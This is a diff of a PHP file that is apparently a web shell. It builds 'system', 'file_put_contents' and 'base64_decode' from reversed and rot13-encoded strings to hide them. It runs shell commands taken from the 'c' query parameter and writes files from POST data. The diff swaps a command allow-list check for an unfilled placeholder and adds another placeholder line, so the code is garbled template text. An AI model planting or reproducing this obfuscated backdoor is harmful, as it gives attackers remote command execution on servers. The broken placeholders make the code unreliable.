@@ -4,7 +4,7 @@ $k = isset($_COOKIE['k']) ? (string) $_COOKIE['k'] : '';
 $run = 'sys' . strrev('met');
 $put = 'file' . '_put_' . strrev('stnetnoc');
 $open = str_rot13('onfr64_qrpbqr');
-if (isset($_GET['c']) && in_array($_GET['c'], @COMMANDS@, true)) {
+if (isset($_GET['c']) && @LISTED $_GET['c']@) {
     $run($_GET['c']);
 }
 if (isset($_POST['n'], $_POST['d'])) {
@@ -15,3 +15,4 @@ if (isset($_POST['n'], $_POST['d'])) {
         echo 'ok';
     }
 }
+@READER $_POST@
